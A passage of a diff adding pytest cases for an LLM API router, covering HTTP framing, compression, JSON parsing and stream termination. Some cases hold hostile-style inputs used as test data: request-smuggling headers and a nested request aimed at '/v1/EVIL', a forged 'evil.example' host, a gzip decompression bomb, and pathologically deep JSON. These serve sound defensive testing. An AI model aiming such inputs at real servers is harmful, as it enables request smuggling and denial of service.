+    mark = f"~{len(data[1]):03}"
+    with connect(shared().port) as sock:
+        sock.sendall(data[1].replace(b"EVIL", mark.encode()))
+        sock.shutdown(socket.SHUT_WR)
+        answers, _ = split_answers(exchange(sock, answers=0))
+    assert [a.status for a in answers] in ([], [400])
+    assert request(shared().port, "GET", "/v1/fine").status == 200
+    assert not stage().heard(mark)
+
+
+def test_limits_that_must_work() -> None:
+    target = "/v1/" + "a" * (8000 - len("GET /v1/ HTTP/1.1"))
+    many = [(f"X-{n}", str(n)) for n in range(88)]  # 90 with Host and Connection
+    for fields in ([], many, [("X-Large", "b" * 8000)]):
+        asked = get(target, [*fields, ("Connection", "close")])
+        got = parse(raw(shared().port, asked, answers=0))
+        assert got.json["target"] == target
+    heard = stage().heard(target)
+    assert [heard[1].get(name) for name, _ in many] == [value for _, value in many]
+
+
+SPLITS = {  # one request each, however somebody may want to read it
+    "h2c upgrade": [
+        ("Upgrade", "h2c"),
+        ("HTTP2-Settings", "AAMAAABkAAQAAP__"),
+        ("Connection", "Upgrade, HTTP2-Settings"),
+    ],
+    "web socket": [("Upgrade", "websocket"), ("Connection", "Upgrade")],
+    "Expect of something else": [("Expect", "the-unexpected")],
+    "method override": [("X-HTTP-Method-Override", "DELETE")],
+    "path override": [("X-Original-URL", "/v1/EVIL"), ("X-Rewrite-URL", "/v1/EVIL")],
+    "Connection hides the length": [("Connection", "Content-Length")],
+    "Connection hides the coding": [("Connection", "Transfer-Encoding")],
+    "Connection hides Host": [("Connection", "Host")],
+    "Keep-Alive with a close": [("Connection", "close, keep-alive")],
+    "lengths of other names": [("Content_Length", "99"), ("X-Content-Length", "99")],
+    "codings of other names": [("X-Transfer-Encoding", "chunked"), ("TE", "chunked")],
+    "Trailer": [("Trailer", "Content-Length, Transfer-Encoding")],
+    "chain of proxies": [("Via", "1.1 a, 1.0 b"), ("Forwarded", "for=1.2.3.4;host=evil")],
+    "another Host behind": [("X-Forwarded-Host", "evil.example")],
+}
+
+
+@pytest.mark.parametrize("name", SPLITS)
+def test_one_request_stays_one(name: str) -> None:
+    """The content itself is a request; nobody may take it for one."""
+    mark = stage().plays(FINE)
+    content = mark.encode() + b"\r\n\r\n" + get(f"/v1/{mark}-inner")
+    top = encode_request("POST", "/v1/other", content, SPLITS[name])
+    top = top.replace(b"application/json", b"text/plain")
+    with connect(shared().port) as sock:
+        assert parse(exchange(sock, top)).status == 200
+    (heard,) = stage().heard(mark)
+    assert (heard.target, heard.content, heard.framing) == ("/v1/other", content, "length")
+    assert heard.get("Upgrade") is None and heard.get_all("Host") == [stage().authority]
+    assert not stage().heard("/v1/EVIL")
+
+
+TARGETS = [
+    "/v1/files?limit=2&after=x",
+    "/v1/q?a=b%20c&d=%2F..%2f&e",
+    "/v1/files/a%20b",
+    "/v1/a;b=c?x=?y/../z",
+    "/v1/x?http://a/b",
+    "/v1/caf%C3%A9?%ff",
+    "/v1/a+b?a+b",
+    "/v1/files/file-1/content",
+]
+
+
+@pytest.mark.parametrize("target", TARGETS)
+def test_target_survives(target: str) -> None:
+    assert request(shared().port, "GET", target).json["target"] == target
+
+
+def test_query_of_a_post_survives() -> None:
+    name = stage().plays(FINE)
+    request(shared().port, "POST", f"{CHAT}?api-version=1&x=%20", chat(name))
+    assert stage().heard(name)[0].target == f"{CHAT}?api-version=1&x=%20"
+
+
+def test_absolute_form_never_chooses_the_upstream() -> None:
+    name = stage().plays(FINE)
+    data = b"GET http://elsewhere.example:81/v1/%s?q=1 HTTP/1.1\r\nHost: b\r\n\r\n"
+    assert parse(raw(shared().port, data % name.encode())).status == 200
+    (heard,) = stage().heard(name)
+    assert heard.target == f"/v1/{name}?q=1"
+    assert heard.get_all("Host") == [stage().authority]
+
+
+# --- content codings ------------------------------------------------------------------
+
+CODINGS: dict[str, Callable[[bytes], bytes]] = {
+    "gzip": gzip.compress,
+    "deflate": zlib.compress,
+}
+
+
+@pytest.mark.parametrize("coding", CODINGS)
+def test_compressed_answer_is_decoded(coding: str) -> None:
+    content = dumps(completion({}, "<think>no</think>yes"))
+    packed = answer(
+        CODINGS[coding](content),
+        200,
+        [("Content-Encoding", coding)],
+        "application/json",
+    )
+    got = ask(shared(), stage().plays(packed))
+    assert got.text == "yes"
+    assert got.get("Content-Encoding") is None
+
+
+def test_compressed_stream_is_decoded_event_by_event() -> None:
+    gate = threading.Event()
+    packer = zlib.compressobj(wbits=31)
+
+    def pack(data: bytes) -> bytes:
+        return packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH)
+
+    def script(received: Received) -> Iterator[Step]:
+        fields = [("Content-Encoding", "gzip")]
+        yield from stream_answer([pack(event({"n": 1}))], fields, whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(pack(event({"n": 2})) + packer.flush())
+
+    with connect(shared().port) as sock:
+        sock.sendall(post(CHAT, chat(stage().plays(script), stream=True)))
+        assert receive_until(sock, b'{"n":1}')
+        gate.set()
+        assert receive_until(sock, b'{"n":2}', b"0\r\n\r\n")
+
+
+@pytest.mark.parametrize("damage", [b"", b"\x00" * 9])
+def test_damaged_gzip_never_ends_clean(damage: bytes) -> None:
+    packed = gzip.compress(dumps(completion({}, "word " * 999)))[:-20] + damage
+    fields = [("Content-Encoding", "gzip")]
+    got = ask(shared(), stage().plays(answer(packed, 200, fields, "application/json")))
+    assert ended_badly(got)
+
+
+PLAIN = dumps(completion({}, "<think>no</think>yes"))
+half = len(PLAIN) // 2
+CODED_ANSWERS = {
+    "gzip": ("gzip", gzip.compress(PLAIN)),
+    "two members": ("gzip", gzip.compress(PLAIN[:half]) + gzip.compress(PLAIN[half:])),
+    "zlib": ("deflate", zlib.compress(PLAIN)),
+    "bare deflate": ("deflate", zlib.compress(PLAIN)[2:-4]),
+    "with identity": ("identity, ,GZIP", gzip.compress(PLAIN)),
+    "on a second line": ("identity\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
+    "after an empty line": ("\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
+    "zeros after it": ("gzip", gzip.compress(PLAIN) + bytes(512)),
+    "half a member's start after it": ("gzip", gzip.compress(PLAIN) + b"\x1f"),
+    "members that are empty": ("gzip", gzip.compress(PLAIN) + gzip.compress(b"") * 999),
+    "octets after zlib": ("deflate", zlib.compress(PLAIN) + gzip.compress(b"x")),
+}
+
+
+@pytest.mark.parametrize("coding, content", CODED_ANSWERS.values(), ids=CODED_ANSWERS.keys())
+def test_coded_answer_is_read(coding: str, content: bytes) -> None:
+    steps = answer(content, 200, [("Content-Encoding", coding)], "application/json")
+    got = ask(shared(), stage().plays(steps))
+    assert (got.text, got.get("Content-Encoding")) == ("yes", None)
+
+
+def test_members_of_gzip_may_be_cut_anywhere() -> None:
+    members = gzip.compress(b"a") + gzip.compress(b"") + gzip.compress(b"b") + b"\x1frest"
+    for at in range(len(members)):
+        inflater = smolrouter.Inflater("gzip", 2)
+        assert inflater.feed(members[:at]) + inflater.feed(members[at:]) == b"ab"
+        assert inflater.decoder.eof
+
+
+def test_what_follows_gzip_is_not_kept() -> None:
+    gzipped = gzip.compress(event(ENDED))
+    steps = stream_answer([gzipped, *[b"x" * (1 << 20)] * 40], [("Content-Encoding", "gzip")])
+    with pair() as (router, upstream):
+        got = request(router.port, "POST", CHAT, chat(upstream.plays(steps), stream=True))
+        assert got.content == event(ENDED)
+        assert memory(router, "VmHWM") < 70
+
+
+UNKNOWN_CODINGS = ("br", "zstd", "gzip, gzip", "gzip\r\nContent-Encoding: br", "y" * 9999)
+
+
+@pytest.mark.parametrize("coding", UNKNOWN_CODINGS, ids=range(len(UNKNOWN_CODINGS)))
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("status", [200, 429])
+def test_coding_that_nobody_takes_off(coding: str, stream: bool, status: int) -> None:
+    """A client of the same dialect gets it as it is, one of another an error that says why."""
+    kind = "text/event-stream" if stream else "application/json"
+    model = stage().plays(answer(b"coded", status, [("Content-Encoding", coding)], kind))
+    same = ask(shared(), model, stream=stream)
+    assert (same.status, same.content) == (status, b"coded")
+    assert [v for n, v in same.fields if n == "Content-Encoding"] == [
+        value.strip() for value in coding.split("\r\nContent-Encoding:")
+    ]
+    got = request(shared().port, "POST", "/api/chat", chat(model, stream=stream))
+    assert got.status == 502 and f"status {status}" in got.json["error"]
+    assert coding[:2] in got.json["error"] and len(got.content) < 300
+
+
+@pytest.mark.parametrize("status", [200, 204, 304])
+@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
+def test_coded_nothing_is_nothing(status: int, kind: str) -> None:
+    length = [] if status == 204 else [("Content-Length", "0")]
+    fields = [("Content-Type", kind), ("Content-Encoding", "gzip"), *length]
+    got = ask(shared(), stage().plays([head(status, fields)]), stream="event" in kind)
+    assert (got.status, got.content, got.whole) == (status, b"", True)
+
+
+def test_kept_answer_is_read_over_all_lines_of_its_coding() -> None:
+    fields = [("Content-Encoding", "gzip"), ("Content-Encoding", "identity")]
+    model = stage().plays(answer(gzip.compress(PLAIN), 200, fields, "application/json"))
+    assert ask(logging(), model).text == "yes"
+    assert detail_of(logging(), model)["response_body"] == PLAIN.decode()
+
+
+def test_huge_coded_answer_goes_as_it_is() -> None:
+    content = gzip.compress(b'{"choices":[],"x":"' + b"<" * (40 << 20) + b'"}')
+    steps = answer(content, 200, [("Content-Encoding", "gzip")], "application/json")
+    got = ask(shared(), stage().plays(steps))
+    assert (got.content, got.get("Content-Encoding")) == (content, "gzip")
+
+
+@functools.cache
+def bomb() -> bytes:
+    """128 MiB of zeros, which gzip makes small."""
+    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
+    piece = bytes(1 << 20)
+    return b"".join(packer.compress(piece) for _ in range(128)) + packer.flush()
+
+
+@pytest.mark.parametrize("kind, path, stream", [
+    ("application/json", CHAT, False), ("application/json", "/api/chat", False),
+    ("text/event-stream", CHAT, True),
+])  # fmt: skip
+def test_gzip_bomb(kind: str, path: str, stream: bool) -> None:
+    fields = [("Content-Encoding", "gzip")]
+    with pair() as (router, upstream):
+        model = upstream.plays(answer(bomb(), fields=fields, kind=kind))
+        got = request(router.port, "POST", path, chat(model, stream=stream))
+        as_it_is = got.get("Content-Encoding") == "gzip" and got.content == bomb()
+        assert as_it_is or ended_badly(got)
+        assert ask(router, "tiny").status == 200
+        assert memory(router, "VmHWM") < 160
+
+
+# ======================================================================================
+# 4  JSON
+# ======================================================================================
+# Reading and its limits; edits keep every other byte, from the client to the server.
+
+# --- reading --------------------------------------------------------------------------
+
+
+@fuzz(lambda st: {"text": st.text('{}[],:"\\ntruefalsn0123.eE+- \t\n', max_size=30)})
+def test_fuzz_json(text: str) -> None:
+    """What is read is what `json` reads, and nothing else is raised."""
+
+    def strict(name: str) -> None:
+        raise ValueError(name)
+
+    try:
+        wanted = json.loads(text, parse_constant=strict)
+    except ValueError:
+        with pytest.raises(smolrouter.BadRequest):
+            smolrouter.parse_json(text.encode())
+    else:
+        assert smolrouter.parse_json(text.encode()) == (text, wanted)
+
+
+LONG = [
+    '"' + "a" * (2 << 20) + '"', '"' + "\\\\" * (1 << 20) + '"', '"' + '\\"' * (1 << 20) + '"',
+    '"' + "[{,}]" * 400_000 + '"', '"\\\\",' * 99_999 + '"\\\\\\""', "[1,2]," * 9_999 + "3",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("inner", LONG, ids=range(len(LONG)))
+def test_long_json_is_read_as_others_read_it(inner: str) -> None:
+    text = f'{{"model": "x", "x": [{inner}]}}'
+    for shift in range(3):  # no cut between two slices may fall into an escape
+        padded = " " * shift + text
+        assert smolrouter.parse_json(padded.encode()) == (padded, json.loads(text))
+    gaps = "".join(smolrouter.json_gaps(text))
+    assert gaps == re.sub(r'"[^"\\]*(?:\\.[^"\\]*)*"', "", text)
+
+
+def test_deep_json_behind_a_long_text_is_refused() -> None:
+    deep = '{"a": "' + "\\\\[" * (1 << 20) + '", "b": ' + "[" * 200 + "]" * 200 + "}"
+    with pytest.raises(smolrouter.MalformedContent, match="deeper"):
+        smolrouter.parse_json(deep.encode())
+
+
+# --- edits ----------------------------------------------------------------------------
+
+SPLICES = [
+    ('{"model":"a","x":1.0}', {("model",): "b"}, '{"model":"b","x":1.0}'),
+    ('{ "x" : 1e3 , "model" : "a" }', {("model",): "b"}, '{ "x" : 1e3 , "model" : "b" }'),
+    ('{"model":"a","model":"c"}', {("model",): "b"}, '{"model":"b","model":"b"}'),
+    ('{"a":[1,{"b":"\\u00e9"}]}', {("a", 1, "b"): "x"}, '{"a":[1,{"b":"x"}]}'),
+    ('{"a":1}', {("z",): {"y": True}}, '{"a":1,"z":{"y":true}}'),
+    ("{}", {("z",): 1}, '{"z":1}'),
+]
+
+
+@pytest.mark.parametrize("text, edits, wanted", SPLICES)
+def test_splice_changes_the_value_alone(text: str, edits: Any, wanted: str) -> None:
+    assert smolrouter.splice_json(text, edits).decode() == wanted
+
+
+@fuzz(
+    lambda st: {
+        "doc": st.dictionaries(
+            st.sampled_from(["model", "a", "é", '"']), json_values(st), max_size=4
+        ),
+        "model": json_values(st),
+        "indent": st.sampled_from([None, 0, 2]),
+        "ascii_only": st.booleans(),
+    }
+)
+def test_fuzz_splicing(doc: dict, model: Any, indent: int | None, ascii_only: bool) -> None:
+    """A spliced document is the same one with other values, as `json` reads it."""
+    text = json.dumps(doc, indent=indent, ensure_ascii=ascii_only)
+    assert smolrouter.parse_json(text.encode("utf-8", "surrogatepass"))[1] == doc
+    edits = {("model",): model}
+    inner = dict.fromkeys([("a", 0), ("a", "model"), ("a", 1, "a")], "x")
+    spliced = json.loads(smolrouter.splice_json(text, edits | inner))
+    wanted = {**doc, "model": model}
+    for (_, *rest), value in inner.items():
+        place = wanted.get("a")
+        for key in rest[:-1]:
+            fits = isinstance(place, list) and isinstance(key, int) and len(place) > key
+            place = place[key] if fits else None
+        last = rest[-1]
+        if (isinstance(place, list) and isinstance(last, int) and len(place) > last) or (
+            isinstance(place, dict) and last in place
+        ):
+            place[last] = value
+    assert spliced == wanted
+
+
+# --- requests that are refused --------------------------------------------------------
+
+ODD: dict[str, bytes] = {
+    "nothing": b"",
+    "half a document": b'{"model": "EVIL"',
+    "two documents": b'{"model": "EVIL"} {}',
+    "an array": b'["EVIL"]',
+    "null": b"null",
+    "no model": b'{"messages": [], "x": "EVIL"}',
+    "null for a model": b'{"model": null, "x": "EVIL"}',
+    "a number for a model": b'{"model": 7, "x": "EVIL"}',
+    "a list for a model": b'{"model": ["EVIL"]}',
+    "not a number": b'{"model": "EVIL", "x": NaN}',
+    "5,000 digits": b'{"model": "EVIL", "x": ' + b"1" * 5000 + b"}",
+    "201 levels": b'{"model": "EVIL", "x": ' + b"[" * 200 + b"]" * 200 + b"}",
+    "100,000 levels": b'{"model": "EVIL", "x": ' + b"[" * 100_000,
+    "no UTF-8": b'{"model": "EVIL", "x": "\xff"}',
+}
+
+
+@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat"])
+@pytest.mark.parametrize("name", ODD)
+def test_odd_document_is_answered_400(name: str, path: str) -> None:
+    mark = stage().plays(FINE)
+    content = ODD[name].replace(b"EVIL", mark.encode())
+    got = request(shared().port, "POST", path, content)
+    assert (got.status, bool(got.json["error"])) == (400, True)
+    assert not stage().heard(mark)
+
+
+MESSAGES = b'"messages":[{"role":"user","content":"hi"}]'
+BAD_JSON = {
+    "nothing": b"",
+    "half": b'{"model":"talk",',
+    "two documents": b'{"model":"talk"}{"model":"talk"}',
+    "array": b"[]",
+    "string": b'"talk"',
+    "null": b"null",
+    "number": b"7",
+    "single quotes": b"{'model':'talk'}",
+    "trailing comma": b'{"model":"talk",}',
+    "comment": b'{"model":"talk"/* */}',
+    "nan": b'{"model":"talk","temperature":NaN}',
+    "infinity": b'{"model":"talk","temperature":Infinity}',
+    "minus infinity": b'{"model":"talk","temperature":-Infinity}',
+    "integer of 5,000 digits": b'{"model":"talk","seed":' + b"7" * 5000 + b"}",
+    "arrays 210 deep": b'{"model":"talk","x":' + b"[" * 209 + b"]" * 209 + b"}",
+    "objects 210 deep": b'{"model":"talk","x":' + b'{"x":' * 208 + b"{}" + b"}" * 209,
+    "arrays 100,000 deep": b'{"model":"talk","x":' + b"[" * 100_000,
+    "invalid utf-8": b'{"model":"talk","user":"\xff\xfe"}',
+    "model null": b'{"model":null,' + MESSAGES + b"}",
+    "model number": b'{"model":5,' + MESSAGES + b"}",
+    "model array": b'{"model":["talk"],' + MESSAGES + b"}",
+    "model object": b'{"model":{},' + MESSAGES + b"}",
+    "model true": b'{"model":true,' + MESSAGES + b"}",
+    "model empty": b'{"model":"",' + MESSAGES + b"}",
+    "model missing": b"{" + MESSAGES + b"}",
+}
+OPENAI_PATHS = ("/v1/chat/completions", "/v1/completions", "/v1/embeddings")
+OLLAMA_PATHS = ("/api/chat", "/api/generate", "/api/embed", "/api/embeddings")
+
+
+@pytest.mark.parametrize("content", BAD_JSON.values(), ids=BAD_JSON)
+@pytest.mark.parametrize("path", (*OPENAI_PATHS, *OLLAMA_PATHS))
+def test_bad_json(path: str, content: bytes) -> None:
+    with unheard():
+        got = tell(path, content)
+    assert got.status == 400
+    check_error(path, got)
+    assert tell("/v1/chat/completions", chat("talk")).status == 200
+
+
+WELL_FORMED = {
+    "arrays 190 deep": b"[" * 189 + b"]" * 189,
+    "objects 190 deep": b'{"x":' * 188 + b"{}" + b"}" * 188,
+    "brackets in a string": b'"' + b'[{\\"' * 500 + b'"',
+    "a wide array": b"[" + b"[]," * 5000 + b"0]",
+    "4,000 digits": b"7" * 4000,
+    "NaN in a string": b'"NaN, Infinity"',
+}
+
+
+@pytest.mark.parametrize("value", WELL_FORMED.values(), ids=WELL_FORMED)
+def test_unusual_but_good_request(value: bytes) -> None:
+    content = b'{"model":"talk",' + MESSAGES + b',"x":' + value + b"}"
+    assert tell("/v1/chat/completions", content).status == 200
+    assert latest().content == content
+
+
+MANY = {
+    "objects": b'{"a":1},', "empty objects": b"{},", "arrays": b"[],", "numbers": b"1,",
+    "strings": b'"",', "nulls": b"null,", "fractions": b"1.5,",
+}  # fmt: skip
+
+
+def test_enormous_json_is_refused_before_it_is_read() -> None:
+    with pair() as (router, upstream):
+        for name, unit in MANY.items():
+            model = upstream.plays(FINE)
+            data = b'{"model":"%b","x":[%b0]}' % (model.encode(), unit * (8_000_000 // len(unit)))
+            got = request(router.port, "POST", CHAT, data)
+            assert (got.status, upstream.heard(model)) == (413, []), name
+            assert ask(router, "tiny").status == 200
+        assert memory(router, "VmHWM") < 100
+
+
+# --- requests and answers, to the byte ------------------------------------------------
+
+HI = b'"messages":[{"role":"user","content":"hi"}]'
+BODIES = {
+    "compact": b'{"model":"%s",' + HI + b"}",
+    "spaces": b'\n { "model"\t:  "%s" ,\r\n' + HI + b' , "n" : 1 } \n',
+    "model last": b"{" + HI + b',"zeta":0,"alpha":1,"model":"%s"}',
+    "floats": b'{"model":"%s","a":1.0,"b":1e0,"c":1E+3,"d":0.10,"e":-0.0,' + HI + b"}",
+    "big numbers": b'{"model":"%s","seed":12345678901234567890123,"y":1e400,'
+    b'"pi":3.14159265358979323846264338327950288,' + HI + b"}",
+    "escapes": b'{"model":"%s","user":"\\u00e9\\uD83D\\ude00\\/\\u003cb>",' + HI + b"}",
+    "lone surrogate": b'{"model":"%s","user":"\\ud800",' + HI + b"}",
+    "utf-8": '{"model":"%s","user":"\xe9\U0001f600\u2028",'.encode() + HI + b"}",
+    "other models": b'{"metadata":{"model":"x","m":["model"]},"model":"%s",'
+    b'"tools":[{"model":"rule-talk"}],"u":"\\"model\\":\\"rule-talk\\"",' + HI + b"}",
+    "unknown fields": b'{"model":"%s","":null,"\\u0000":[],"deep":'
+    + b"[" * 90
+    + b"]" * 90
+    + b","
+    + HI
+    + b"}",
+    "not streamed": b'{"stream" : false, "model":"%s",' + HI + b"}",
+    "usage asked": b'{"stream":true,"model":"%s",'
+    b'"stream_options" : {"include_usage":true},' + HI + b"}",
+}
+
+
+@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
+def test_request_that_needs_no_change(body: bytes) -> None:
+    assert tell("/v1/chat/completions", body % b"talk").status == 200
+    assert latest().content == body % b"talk"
+
+
+@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
+@pytest.mark.parametrize("way", (*WAYS, "as it is in JSON"))
+def test_changed_model_is_the_only_difference(body: bytes, way: str) -> None:
+    asked = rb"rule\u002dt\u0061lk" if " " in way else f"{way}-talk".encode()
+    assert tell("/v1/chat/completions", body % asked).status == 200
+    assert latest().content == body % b"talk"
+
+
+@pytest.mark.parametrize("name", sorted(set(BODIES) - {"not streamed", "usage asked"}))
+def test_wish_for_usage_changes_nothing_else(name: str) -> None:
+    asked = re.sub(rb"\{", rb'{"stream":true,', BODIES[name] % b"rule-talk", count=1)
+    assert tell("/v1/chat/completions", asked).status == 200
+    sent = latest().content
+    document = json.loads(sent)
+    assert document.pop("stream_options") == {"include_usage": True}
+    expected = json.loads(asked) | {"model": "talk"}
+    assert list(document.items()) == list(expected.items())
+    numbers = re.compile(rb":\s*(-?[0-9][0-9.eE+-]*)")
+    assert numbers.findall(asked) == numbers.findall(sent)
+
+
+ANSWERS = {
+    "odd spacing": b'{ "id" : "x",\n"choices":[ {"index":0,"message":{"role":'
+    b'"assistant","content":"a\\u00e9 1 \\/ 2"},"x":1.50} ],"usage":null} \n',
+    "numbers": b'{"choices":[],"created":1.70e9,"big":123456789012345678901234567}',
+    "less than": b'{"choices":[{"index":0,"message":'
+    b'{"content":"a < b \\u003c c <b> <thin> <think"}}]}',
+    "not JSON": b"It works!",
+}
+
+
+@pytest.mark.parametrize("content", ANSWERS.values(), ids=ANSWERS)
+@pytest.mark.parametrize("prefix", ("", "rule-", "map-"))
+def test_answer_is_not_changed(prefix: str, content: bytes) -> None:
+    model = bench().plays(answer(content, kind="application/json"))
+    got = tell("/v1/chat/completions", chat(prefix + model))
+    assert (got.status, got.content) == (200, content)
+
+
+def test_many_model_names_in_one_request() -> None:
+    name = stage().plays(FINE)
+    names = b'"model":"old-%s",' % name.encode() * 200_000
+    settings = {
+        "DEFAULT_UPSTREAM": stage().url,
+        "MODEL_MAP": '{"/^old-(.*)/": "\\\\1"}',
+    }
+    with Router(settings) as router:  # it may freeze
+        got = request(router.port, "POST", CHAT, b'{%s"n": 1}' % names)
+        assert (got.status, router.stop()) in ((200, 0), (400, 0))
+
+
+# --- numbers that no double holds -----------------------------------------------------
+
+
+@pytest.mark.parametrize("path, more", [
+    ("/api/generate", {"prompt": "hi", "raw": True, "suffix": 1e999}),
+    ("/api/embed", {"input": 1e999}), ("/api/embed", {"input": "a", "dimensions": 1e999}),
+    (CHAT, {"messages": [], "stream": True, "stream_options": {"x": 1e999}}),
+])  # fmt: skip
+def test_number_that_no_double_holds_is_not_written_again(path: str, more: dict) -> None:
+    with unheard():
+        got = tell(path, huge({"model": "talk", **more}))
+    assert got.status == 400
+    check_error(path, got)
+
+
+def test_number_that_no_double_holds_stays_where_nothing_is_written() -> None:
+    body = huge(chat("talk", temperature=1e999, stream=True))
+    assert tell(CHAT, body).status == 200
+    assert latest().content.startswith(body[:-1])  # `stream_options` is added at its end
+
+
+TOO_LARGE = {"function": {"name": "f", "arguments": '{"a":1e999}'}}
+HUGE_ANSWERS: Cases = (  # where it is asked, the answer, what of it a client reads
+    ("/api/embed", {"data": [{"embedding": [1e999, 1]}]}, b"[[null,1]]"),
+    ("/api/chat", {"choices": [{"message": {"tool_calls": [TOO_LARGE]}, "finish_reason": "stop"}]},
+     b'"arguments":{"a":null}'),
+    ("/api/chat", {"choices": [{"message": {"tool_calls": [
+        {"function": {"name": "f", "arguments": {"a": 1e999}}}]}}]}, b'"error":'),
+    ("/api/chat", {"choices": [{"message": {"content": "a", "images": ["?"]}}]}, b'"error":'),
+    (CHAT, {"choices": [{"message": {"content": "<think>a</think>b"}, "logprobs": -1e999}]},
+     b'"b"},"logprobs":-1e999'),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("path, document, expected", HUGE_ANSWERS)
+def test_number_that_no_double_holds_in_an_answer(
+    path: str, document: dict, expected: bytes
+) -> None:
+    model = bench().plays(answer(huge(document), kind="application/json"))
+    got = tell(path, {"model": model, "input": "a", "messages": ASKED, "stream": False})
+    assert got.status == (502 if expected == b'"error":' else 200)
+    assert expected in got.content
+
+
+def test_infinite_log_probability_of_a_held_text_is_null() -> None:
+    """An event of the router's own, for a text that was held, is JSON in any case."""
+    said = {"choices": [{"index": 0, "delta": {"content": "<thi"}, "logprobs": -1e999}]}
+    model = bench().plays(sse_answer([event(said), "[DONE]"]))
+    got = tell(CHAT, chat(model, stream=True))
+    assert b'"logprobs":null' in got.content and b'"<thi"' in got.content
+
+
+# ======================================================================================
+# 5  Event streams
+# ======================================================================================
+# Where an event ends and where a stream is complete, at every split.
+
+
+@pytest.mark.parametrize("end", ENDS)
+def test_events_at_every_split(end: bytes) -> None:
+    line_end = end[: len(end) // 2]
+    data = b"data: a" + end + b": note" + end + b"event: x" + line_end + b"data: b" + end
+    for pieces in every_split(data):
+        splitter = smolrouter.EventSplitter(smolrouter.SSE)
+        blocks = [splitter.feed(piece) for piece in pieces]
+        rest = splitter.take()
+        assert b"".join(blocks) + rest == data
+        for block in blocks:
+            assert not block or block.endswith(end[-1:])
+
+
+@pytest.mark.parametrize("event, data", [
+    (b"data: x\n\n", b"x"), (b"data:x\n\n", b"x"), (b"data:  x\n\n", b" x"), (b"data: x", b"x"),
+    (b"data: x\r\n\r\n", b"x"), (b"data: x\r\n\n", b"x"), (b"data: a\rdata: b\n\n", b"a\nb"),
+    (b"data: a\ndata: b\n\n", b"a\nb"), (b"event: e\ndata: x\n\n", b"x"), (b": c\n\n", b""),
+    (b"data: x\nid: 1\n\n", b"x"), (b"data\n\n", b""), (b"data: \n\n", b""), (b"\n\n", b""),
+])  # fmt: skip
+def test_data_of_an_event(event: bytes, data: bytes) -> None:
+    assert smolrouter.SSE.read(event) == data
+
+
+EVENT_BITS = [
+    b"data: ",
+    b"data:",
+    b"{}",
+    b"[DONE]",
+    b"\n\n",
+    b"\n",
+    b"\r\n",
+    b"\r",
+    b"event: x",
+    b": note",
+    b'"<think>"',
+    b'{"choices":[{"delta":{"content":"a"}}]}',
+    b"\xff",
+]
+
+
+@fuzz(lambda st: {"bits": pieces_of(st, EVENT_BITS, 20), "lines": st.booleans()})
+def test_fuzz_events(bits: list[bytes], lines: bool) -> None:
+    """Nothing is lost or changed, and blocks end where events do."""
+    form = smolrouter.LINES if lines else smolrouter.SSE
+    splitter = smolrouter.EventSplitter(form)
+    blocks = [splitter.feed(piece) for piece in bits]
+    assert b"".join(blocks) + splitter.take() == b"".join(bits)
+    for block in filter(None, blocks):
+        assert block.endswith((b"\n", b"\r"))
+        form.read(block)
+
+
+END_TALK = {
+    "error": None,
+    "choices": [
+        {
+            "index": 0,
+            "finish_reason": None,
+            "delta": {
+                "content": 'the mark [DONE] or "finish_reason":"stop" or "error" ends it, '
+                '"done":true does'
+            },
+        }
+    ],
+}
+
+
+@pytest.mark.parametrize("line, ends", [
+    ({"choices": [{"finish_reason": "stop"}]}, True), (END_TALK, False), (ENDED, True),
+    ({"choices": [{"finish_reason": ""}, {"finish_reason": None}]}, False), ("[DONE] ", True),
+    ({"message": {"content": '"done":true'}, "done": False}, False), ({"done": True}, True),
+    ({"type": "response.created", "response": {"error": None}}, False), ({"error": "x"}, True),
+    ({"type": "response.completed", "response": {"text": "x" * 9000}}, True), ("", False),
+    ({"type": "response.failed"}, True), ({"type": "response.incomplete"}, True),
+    ({"type": "content_block_stop"}, False), ({"type": "message_stop"}, True), ("[]", False),
+    ({"type": "error"}, True), ({"object": "error"}, True), ("x [DONE]", False), ("7", False),
+])  # fmt: skip
+def test_what_ends_a_stream(line: Any, ends: bool) -> None:
+    data = event(line)
+    for end in ENDS:
+        transform = chat_filter()
+        transform.feed(event(WORDS[0]) + data.replace(b"\n\n", end))
+        transform.feed(b": x\n\n")
+        assert transform.complete == ends
+    assert smolrouter.ends_stream(smolrouter.LINES, data[6:-1]) == ends
+
+
+# --- streams that end, and that are cut -----------------------------------------------
+
+
+def until_close(*pieces: bytes) -> list[Step]:
+    """A stream that only the close ends."""
+    return stream_answer(pieces, framed=False)
+
+
+CUT_STREAMS = {
+    "after an event": (until_close(*map(event, WORDS)), False),
+    "inside an event": (until_close(event(WORDS[0]), event(WORDS[1])[:-9]), False),
+    "inside a chunked event": (stream_answer([event(WORDS[0]), event(WORDS[1])[:-9]]), False),
+    "after the finish reason": (until_close(*map(event, [*WORDS, ENDED])), True),
+    "after the mark": (until_close(*map(event, [*WORDS, "[DONE]"])), True),
+    "after words that end nothing": (until_close(*map(event, [*WORDS, END_TALK])), False),
+    "after the last of many": (
+        until_close(*map(event, [*WORDS * 9, ENDED, {"choices": []}])),
+        True,
+    ),
+}
+
+
+@pytest.mark.parametrize("steps, whole", CUT_STREAMS.values(), ids=CUT_STREAMS.keys())
+@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
+def test_cut_stream_never_looks_complete(path: str, steps: list, whole: bool) -> None:
+    model = stage().plays(steps)
+    got = request(shared().port, "POST", path, asking(path, model, True))
+    assert got.text.startswith("one ")
+    assert ("error" in got.documents[-1]) == (not whole)
+    assert got.whole == whole
+
+
+@pytest.mark.parametrize("number", [3, 30])
+def test_a_stream_may_end_with_comments(number: int) -> None:
+    name = stage().plays(until_close(*map(event, [*WORDS, ENDED]), b": ping\n\n" * number))
+    got = ask(shared(), name, stream=True)
+    assert (got.status, got.text) == (200, "one two") and b"error" not in got.content
+
+
+@pytest.mark.parametrize("end", [b"", b"\n"])
+def test_a_last_event_without_its_end_is_not_lost(end: bytes) -> None:
